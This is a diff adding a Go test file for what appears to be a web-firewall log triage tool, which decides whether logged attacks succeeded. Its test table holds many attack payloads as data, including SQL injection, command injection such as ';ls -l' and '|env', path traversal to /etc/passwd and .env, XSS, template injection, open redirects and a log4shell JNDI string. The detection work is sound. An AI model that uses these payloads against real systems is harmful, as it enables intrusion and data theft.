@@ -1,0 +1,183 @@
+package triage
+
+import (
+	"encoding/json"
+	"strings"
+	"testing"
+
+	"github.com/modsecurity-for-anylog/msa/engine"
+	"github.com/modsecurity-for-anylog/msa/mapping"
+)
+
+// attempt is a request with a payload, and its answer.
+type attempt struct {
+	kind, payload   string // of the attack
+	uri, request    string // "/" and no body by default
+	status, headers string // "200", and no more than the type
+	mime, body      string // "text/html"
+	took            string // seconds and milliseconds, "00.020"
+	succeeded       bool   // a rule says so
+	databaseError   bool   // likewise
+}
+
+func (a attempt) exchange(t testing.TB) (*mapping.Transaction, *engine.Verdict) {
+	t.Helper()
+	or := func(s, instead string) string {
+		if s == "" {
+			return instead
+		}
+		return s
+	}
+	status := or(a.status, "200")
+	text, err := json.Marshal(map[string]string{
+		"METHOD": "GET", "URL": or(a.uri, "/"), "SRC_IP": "10.0.0.7", "DST_IP": "10.0.1.5", "RETCODE": status, "DOMAIN": "shop.example.com", "REQ_BODY": a.request,
+		"BEGIN_TIME": "2026-11-20 10:11:00.000", "END_TIME": "2026-11-20 10:11:" + or(a.took, "00.020"),
+		"RSP_HEADER": "HTTP/1.1 " + status + " X\r\nContent-Type: " + or(a.mime, "text/html; charset=utf-8") + "\r\n" + a.headers + "\r\n",
+		"RSP_BODY":   a.body,
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	record, _, err := mapping.AppendJSON(nil, text)
+	if err != nil {
+		t.Fatal(err)
+	}
+	m, err := mapping.Load("nano")
+	if err != nil {
+		t.Fatal(err)
+	}
+	tx := new(mapping.Transaction)
+	if err := m.Map("t", record, tx); err != nil {
+		t.Fatal(err)
+	}
+	v := &engine.Verdict{Alarm: true, Matches: []engine.Match{{
+		RuleID: 9000001, Phase: 2, Tags: []string{"attack-" + a.kind}, Places: []engine.Place{{Variable: "ARGS:q", Value: a.payload}},
+	}}}
+	if a.succeeded {
+		v.Matches = append(v.Matches, engine.Match{RuleID: 9000002, Phase: 4, Message: "The answer has it", Tags: []string{"succeeded"}})
+	}
+	if a.databaseError {
+		v.Matches = append(v.Matches, engine.Match{RuleID: 951230, Phase: 4})
+	}
+	return tx, v
+}
+
+// Each kind of evidence, and what looks like it and is none.
+func TestOutcome(t *testing.T) {
+	const union = "1 union all select concat(0x716b6a7871,version(),0x7176627071)-- "
+	const script = `<script>alert(1)</script>`
+	for name, c := range map[string]struct {
+		attempt
+		want     Outcome
+		evidence string
+	}{
+		"rule of answers":                {attempt{kind: "lfi", payload: "../../etc/passwd", succeeded: true}, Success, "The answer has it"},
+		"rule of answers, with an error": {attempt{kind: "lfi", payload: "../../etc/passwd", status: "500", succeeded: true}, Success, "The answer has it"},
+
+		"sum":                    {attempt{kind: "rce", payload: ";echo QZWX$((35+24))", body: "ping: QZWX59\n"}, Success, "59"},
+		"sum, echoed":            {attempt{kind: "rce", payload: ";echo QZWX$((35+24))", body: "no host ;echo QZWX$((35+24))"}, Unknown, "nothing"},
+		"expr":                   {attempt{kind: "rce", payload: "`expr 31337 + 11`", body: "<p>31348</p>"}, Success, "31348"},
+		"template":               {attempt{kind: "injection-generic", payload: "{{7*7}}", body: "<h1>Hello 49</h1>"}, Success, "49"},
+		"template, echoed":       {attempt{kind: "injection-generic", payload: "{{7*7}}", body: "<h1>Hello {{7*7}}</h1> 49"}, Unknown, "nothing"},
+		"template, a price":      {attempt{kind: "injection-generic", payload: "{{7*7}}", body: "<b>49.90</b> for 1-49 of x49"}, Unknown, "nothing"},
+		"template, a long page":  {attempt{kind: "injection-generic", payload: "{{7*7}}", body: "<b>49</b>" + strings.Repeat("<p>text</p>", 100)}, Unknown, ""},
+		"template, in its place": {attempt{kind: "injection-generic", payload: "abc${7*7}xyz", body: strings.Repeat("<p>t</p>", 100) + "abc49xyz"}, Success, "49"},
+		"template of Python":     {attempt{kind: "injection-generic", payload: "{{7*'7'}}", body: "Hi 7777777!"}, Success, "7777777"},
+		"a large number":         {attempt{kind: "injection-generic", payload: "#{1337*1337}", body: `{"name":"1787569"}`, mime: "application/json"}, Success, "1787569"},
+		"within a larger number": {attempt{kind: "injection-generic", payload: "#{1337*1337}", body: `{"id":"917875690"}`, mime: "application/json"}, Unknown, ""},
+		"result in the payload":  {attempt{kind: "injection-generic", payload: "#{1337*1337}=1787569", body: "1787569"}, Unknown, ""},
+
+		"markers":                  {attempt{kind: "sqli", payload: union, body: "<td>qkjxq8.0.34qvbpq</td>"}, Success, "qkjxq … qvbpq"},
+		"markers, echoed":          {attempt{kind: "sqli", payload: union, body: "no product " + union}, Unknown, ""},
+		"one marker":               {attempt{kind: "sqli", payload: "1 union select * from u where n=0x61646d696e", body: "admin"}, Unknown, ""},
+		"characters":               {attempt{kind: "sqli", payload: "1 UNION SELECT CHAR(113)+CHAR(112)+CHAR(106)+CHAR(113)+x+CHR(113)||CHR(118)||CHR(122)||CHR(113)", body: "qpjq1qvzq"}, Success, "qpjq … qvzq"},
+		"digest":                   {attempt{kind: "sqli", payload: "1 union select md5(31337)", body: "6f3249aa304055d63828af3bfab778f6"}, Success, "md5(31337)"},
+		"error that quotes":        {attempt{kind: "sqli", payload: "extractvalue(1,concat(0x7e,user()))", status: "500", body: "XPATH syntax error: '~shop@localhost'"}, Success, "quotes"},
+		"error of a database":      {attempt{kind: "sqli", payload: "1'", status: "500", databaseError: true}, Failure, "error of the database"},
+		"error of a database, 200": {attempt{kind: "sqli", payload: "1'", databaseError: true}, Unknown, "nothing"},
+
+		"waited":                 {attempt{kind: "sqli", payload: "1 and SLEEP(5)", took: "05.031"}, Success, "5.03 s"},
+		"waited, SQL Server":     {attempt{kind: "sqli", payload: "1;waitfor delay '0:0:4'", took: "04.100"}, Success, "4.10 s"},
+		"waited, shell":          {attempt{kind: "rce", payload: ";sleep 6;", took: "06.002"}, Success, "6.00 s"},
+		"waited, ping":           {attempt{kind: "rce", payload: "|ping -n 5 127.0.0.1", took: "04.050"}, Success, "4.05 s"},
+		"did not wait":           {attempt{kind: "sqli", payload: "1 and SLEEP(5)", took: "00.031"}, Unknown, "asks for 5 s"},
+		"waited for much longer": {attempt{kind: "sqli", payload: "1 and SLEEP(5)", took: "30.000"}, Unknown, ""},
+		"slow by itself":         {attempt{kind: "sqli", payload: "1' or '1'='1", took: "06.000"}, Unknown, ""},
+		"too short a wait":       {attempt{kind: "sqli", payload: "1 and SLEEP(1)", took: "01.100"}, Unknown, ""},
+
+		"script":               {attempt{kind: "xss", payload: "x" + script, body: "<p>x" + script + "</p>"}, Success, "script"},
+		"script, escaped":      {attempt{kind: "xss", payload: script, body: "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>"}, Unknown, ""},
+		"script in JSON":       {attempt{kind: "xss", payload: script, body: `{"q":"` + script + `"}`, mime: "application/json"}, Unknown, ""},
+		"script in text":       {attempt{kind: "xss", payload: script, body: script, mime: "text/plain"}, Unknown, ""},
+		"script in a textarea": {attempt{kind: "xss", payload: script, body: "<textarea>" + script + "</textarea>"}, Unknown, ""},
+		"handler":              {attempt{kind: "xss", payload: `x" onfocus="alert(1)`, body: `<input value="x" onfocus="alert(1)">`}, Success, "handler"},
+		"handler in text":      {attempt{kind: "xss", payload: `x" onfocus="alert(1)`, body: `<p>x" onfocus="alert(1)</p>`}, Unknown, ""},
+
+		"redirect":              {attempt{kind: "rfi", payload: "https://evil.example.net/a", status: "302", headers: "Location: https://evil.example.net/a\r\n"}, Success, "evil.example.net"},
+		"redirect, no scheme":   {attempt{kind: "rfi", payload: `/\evil.example.net`, status: "302", headers: "Location: //evil.example.net\r\n"}, Success, ""},
+		"redirect to itself":    {attempt{kind: "rfi", payload: "https://shop.example.com/a", status: "302", headers: "Location: https://shop.example.com/a\r\n"}, Unknown, ""},
+		"redirect to the login": {attempt{kind: "sqli", payload: "1'", status: "302", headers: "Location: /login?next=%2F\r\n"}, Failure, "login"},
+		"redirect elsewhere":    {attempt{kind: "sqli", payload: "1'", status: "302", headers: "Location: /blogin\r\n"}, Unknown, ""},
+
+		"header":           {attempt{kind: "protocol", payload: "a\r\nX-Injected: yes", headers: "X-Injected: yes\r\n"}, Success, "X-Injected"},
+		"another's header": {attempt{kind: "protocol", payload: "a\r\nServer: mine", headers: "Server: nginx\r\n"}, Unknown, ""},
+
+		"source":           {attempt{kind: "lfi", payload: "php://filter/resource=index", body: "<?php\n$db = 1;"}, Success, "PHP"},
+		"source, escaped":  {attempt{kind: "lfi", payload: "../index.php", body: "&lt;?php $a"}, Unknown, ""},
+		"source in base64": {attempt{kind: "lfi", payload: "php://filter/convert.base64-encode/resource=a", body: "PD9waHAKZWNobyAxOw=="}, Success, "base64"},
+		"settings":         {attempt{kind: "lfi", payload: "/.env", mime: "text/plain", body: "# app\nAPP_ENV=prod\nDB_HOST=db\n"}, Success, "settings"},
+		"settings, a page": {attempt{kind: "lfi", payload: "/.env", body: "<html>not here</html>"}, Unknown, ""},
+		"ls":               {attempt{kind: "rce", payload: ";ls -l", body: "total 8\n-rw-r--r-- 1 app app 12 Nov 20 10:11 a\n"}, Success, "ls"},
+		"ls, not asked":    {attempt{kind: "sqli", payload: "1'", body: "total 8\n-rw-r--r-- 1 app app 12 Nov 20 10:11 a\n"}, Unknown, ""},
+		"dir":              {attempt{kind: "rce", payload: "&dir c:\\", body: " Volume Serial Number is 1C2D-3E4F\r\n"}, Success, "dir"},
+		"environment":      {attempt{kind: "rce", payload: "|env", body: "HOME=/\nPATH=/usr/local/bin:/usr/bin\n"}, Success, "environment"},
+
+		"schema":          {attempt{kind: "generic", payload: "x", request: `{"query":"{__schema{types{name}}}"}`, mime: "application/json", body: `{"data":{"__schema":{"types":[]}}}`}, Success, "schema"},
+		"schema, refused": {attempt{kind: "generic", payload: "x", request: `{"query":"{__schema{types{name}}}"}`, mime: "application/json", body: `{"errors":["no __schema"]}`}, Unknown, ""},
+
+		"refused":               {attempt{kind: "sqli", payload: "1'", status: "403"}, Failure, "403"},
+		"not found":             {attempt{kind: "lfi", payload: "../x", status: "404", body: "<h1>Not Found</h1>"}, Failure, "404"},
+		"client gone":           {attempt{kind: "sqli", payload: "1'", status: "499"}, Unknown, ""},
+		"server failed":         {attempt{kind: "sqli", payload: "1'", status: "502"}, Failure, "502"},
+		"page that blocks":      {attempt{kind: "sqli", payload: "1'", body: "<h1>Request blocked</h1>"}, Failure, "request blocked"},
+		"article that mentions": {attempt{kind: "sqli", payload: "1'", body: "<h1>Request blocked</h1>" + strings.Repeat("<p>text</p>", 1000)}, Unknown, ""},
+
+		"no body":   {attempt{kind: "sqli", payload: "1'"}, Unknown, "nothing in the answer"},
+		"upload":    {attempt{kind: "generic", payload: "a.php", request: "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.php\"\r\n\r\nx\r\n--b--", status: "201"}, Unknown, "uploaded"},
+		"log4shell": {attempt{kind: "rce", payload: "${jndi:ldap://10.9.9.9/a}", body: "ok"}, Unknown, "address"},
+		"cut":       {attempt{kind: "sqli", payload: union, headers: "Content-Length: 90000\r\n", body: strings.Repeat("a", 1024)}, Unknown, "cut the answer's body after 1024 bytes"},
+	} {
+		t.Run(name, func(t *testing.T) {
+			tx, v := c.exchange(t)
+			got, evidence := OutcomeOf(tx, v)
+			if text := strings.Join(evidence, "; "); got != c.want || text == "" || !strings.Contains(text, c.evidence) {
+				t.Errorf("%s: %q", got, evidence)
+			}
+		})
+	}
+}
+
+// Of a long answer its beginning and its end are read.
+func TestOutcomeOfLongAnswer(t *testing.T) {
+	fill := strings.Repeat("x ", 40<<10)
+	for name, c := range map[string]struct {
+		body string
+		want Outcome
+	}{
+		"first": {"QZWX59 " + fill, Success}, "last": {fill + " QZWX59", Success}, "between": {fill + " QZWX59 " + fill, Unknown},
+	} {
+		tx, v := attempt{kind: "rce", payload: ";echo QZWX$((35+24))"}.exchange(t)
+		tx.ResponseBody.Text = c.body
+		if got, evidence := OutcomeOf(tx, v); got != c.want {
+			t.Errorf("%s: %s, %q", name, got, evidence)
+		}
+	}
+}
+
+func BenchmarkOutcome(b *testing.B) {
+	tx, v := attempt{kind: "sqli", payload: "1' or '1'='1", body: strings.Repeat("<p>some text of a page</p>", 40)}.exchange(b)
+	b.ReportAllocs()
+	for b.Loop() {
+		OutcomeOf(tx, v)
+	}
+}
